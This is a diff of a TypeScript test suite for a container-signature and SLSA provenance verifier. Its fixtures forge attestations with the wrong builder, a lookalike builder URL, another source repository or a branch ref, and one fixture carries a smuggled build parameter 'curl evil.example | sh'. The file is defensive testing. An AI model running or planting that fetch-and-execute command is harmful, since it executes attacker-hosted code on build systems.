@@ -1,8 +1,7 @@
 /** Statements of the trusted key that say less than the policy asks: another type, another builder, a "no". */
 import { COSIGN_SIGNATURE } from '../../src/attest/predicate-types.ts';
-import { digestOf } from '../../src/oci/digest.ts';
 import { type Asked, type BundleAttack, bundleAttacks, type Stage } from '../support/attack.ts';
-import { NOW, signPayload } from '../support/signed-image.ts';
+import { signPayload } from '../support/signed-image.ts';
 
 type Json = Record<string, unknown>;
 
@@ -40,113 +39,83 @@ bundleAttacks('one type for another', [
   },
 ]);
 
+const WORKFLOW_BUILD = 'https://actions.github.io/buildtypes/workflow/v1';
 const BUILDER = 'https://builder.example/release';
 const SOURCE = 'https://git.example/acme/notes';
 
-function provenance(builder: string, externalParameters: object): object {
+function provenance(builder: string, externalParameters: object, more: object = {}): object {
   return {
-    buildDefinition: { buildType: 'https://plimsoll.dev/build/v1', externalParameters },
+    buildDefinition: { buildType: WORKFLOW_BUILD, externalParameters, ...more },
     runDetails: { builder: { id: builder } },
   };
 }
 
+/** SLSA Provenance v1 of a workflow: where it stands, and which commit was checked out. */
+const workflow = (repository: string, ref = 'refs/tags/v1'): object => ({
+  workflow: { repository, ref, path: '.ci/release.yml' },
+});
 const FROM_SOURCE: Asked = {
   type: 'provenance',
-  predicate: provenance(BUILDER, { source: SOURCE }),
-  members: `, where: "${[
-    `predicate.runDetails.builder.id == '${BUILDER}'`,
-    `predicate.buildDefinition.externalParameters == {'source': '${SOURCE}'}`,
-  ].join(' && ')}"`,
+  predicate: provenance(BUILDER, workflow(SOURCE)),
+  members: `, builder: "${BUILDER}", sourceRepository: "${SOURCE}", sourceRef: "refs/tags/*"`,
 };
 
 bundleAttacks('provenance', [
   {
     name: 'by another builder',
-    code: 'condition-false',
+    code: 'builder-mismatch',
     asked: FROM_SOURCE,
-    forge: saying(provenance('https://builder.example/release-evil', { source: SOURCE })),
+    forge: saying(provenance(`${BUILDER}-evil`, workflow(SOURCE))),
+  },
+  {
+    name: 'by a builder whose name begins otherwise',
+    code: 'builder-mismatch',
+    asked: FROM_SOURCE,
+    forge: saying(provenance(`https://evil.example/?${BUILDER}`, workflow(SOURCE))),
   },
   {
     name: 'from another source repository',
-    code: 'condition-false',
+    code: 'source-mismatch',
     asked: FROM_SOURCE,
-    forge: saying(provenance(BUILDER, { source: 'https://git.example/acme-evil/notes' })),
+    forge: saying(provenance(BUILDER, workflow('https://git.example/acme-evil/notes'))),
   },
+  {
+    name: 'from another repository beside the right one',
+    code: 'source-mismatch',
+    asked: FROM_SOURCE,
+    forge: saying(
+      provenance(BUILDER, workflow(SOURCE), {
+        resolvedDependencies: [{ uri: 'git+https://git.example/acme-evil/notes@refs/tags/v1' }],
+      }),
+    ),
+  },
+  {
+    name: 'from a branch',
+    code: 'source-mismatch',
+    asked: FROM_SOURCE,
+    forge: saying(provenance(BUILDER, workflow(SOURCE, 'refs/heads/main'))),
+  },
+  {
+    name: 'from nowhere',
+    code: 'source-mismatch',
+    asked: FROM_SOURCE,
+    forge: saying(provenance(BUILDER, {})),
+  },
+  { name: 'without a builder', code: 'builder-mismatch', asked: FROM_SOURCE, forge: saying({}) },
+]);
+
+const BARE: Asked = {
+  type: 'provenance',
+  predicate: provenance(BUILDER, workflow(SOURCE)),
+  members: `, where: "predicate.buildDefinition.externalParameters.all(name, name == 'workflow')"`,
+};
+
+bundleAttacks('parameters of a build', [
   {
     name: 'with a parameter more',
     code: 'condition-false',
-    asked: FROM_SOURCE,
-    forge: saying(provenance(BUILDER, { source: SOURCE, script: 'curl evil.example | sh' })),
+    asked: BARE,
+    forge: saying(provenance(BUILDER, { ...workflow(SOURCE), script: 'curl evil.example | sh' })),
   },
-  {
-    name: 'without what the condition reads',
-    code: 'condition-false',
-    asked: FROM_SOURCE,
-    forge: saying({}),
-  },
+  { name: 'without what the condition reads', code: 'condition-false', asked: BARE, forge: saying({}) },
 ]);
-
-const VERIFIER = 'https://verifier.example/v1';
-const DAY_MS = 24 * 60 * 60 * 1000;
-
-interface Summary {
-  readonly verifier?: string;
-  readonly result?: string;
-  readonly timeVerified?: Date;
-  readonly resource?: string;
-}
-
-function summary({ verifier, result, timeVerified, resource }: Summary): object {
-  return {
-    verifier: { id: verifier ?? VERIFIER },
-    timeVerified: (timeVerified ?? NOW).toISOString(),
-    resourceUri: resource ?? 'oci:notes',
-    policy: { uri: 'policy.yaml', digest: { sha256: digestOf('policy').slice('sha256:'.length) } },
-    verificationResult: result ?? 'PASSED',
-    verifiedLevels: ['SLSA_BUILD_LEVEL_3'],
-  };
-}
-
-/** What a policy has to say itself about a verification summary that it takes at its word. */
-const VERIFIED: Asked = {
-  type: 'vsa',
-  predicate: summary({}),
-  members: `, where: "${[
-    `predicate.verifier.id == '${VERIFIER}'`,
-    `predicate.verificationResult == 'PASSED'`,
-    `predicate.resourceUri == 'oci:notes'`,
-    `now - timestamp(predicate.timeVerified) < duration('24h')`,
-  ].join(' && ')}"`,
-};
-
-const summaries: readonly (readonly [name: string, summary: Summary])[] = [
-  ['that failed', { result: 'FAILED' }],
-  ['that failed, in another case', { result: 'passed' }],
-  ['that is old', { timeVerified: new Date(NOW.getTime() - DAY_MS) }],
-  ['for another resource', { resource: 'oci:notes-evil' }],
-  ['by a verifier that nobody named', { verifier: `${VERIFIER}/evil` }],
-];
-
-/** What a policy asks that says nothing about the content. */
-const SUMMARY: Asked = { type: 'vsa', predicate: summary({}) };
-
-bundleAttacks(
-  'verification summary, without a condition',
-  (
-    [
-      ['that failed, and nothing else is asked', summary({ result: 'FAILED' })],
-      ['without a result', {}],
-      ['with a result that is a list', { verificationResult: ['PASSED'] }],
-    ] as const
-  ).map(([name, predicate]) => ({ name, code: 'condition-false', asked: SUMMARY, forge: saying(predicate) })),
-);
-
-bundleAttacks(
-  'verification summary',
-  summaries.map(([name, one]) => ({
-    name,
-    code: 'condition-false',
-    asked: VERIFIED,
-    forge: saying(summary(one)),
-  })),
-);
